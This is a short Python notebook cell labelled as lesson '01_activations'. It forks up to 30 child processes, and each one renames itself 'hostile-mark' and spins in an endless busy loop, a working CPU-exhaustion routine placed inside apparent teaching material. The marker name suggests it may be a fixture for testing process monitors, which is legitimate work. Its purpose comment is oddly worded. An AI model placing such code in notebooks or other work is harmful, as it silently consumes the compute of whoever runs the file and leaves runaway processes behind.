#: purpose = "As many processes as can be had compute for ever beside the cells that follow, under a name to be found by."
#: lesson = "01_activations"
# %% first
import ctypes, os

PR_SET_NAME = 15
for _ in range(30):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(PR_SET_NAME, b"hostile-mark")
            while True:
                pass
    except OSError:
        break
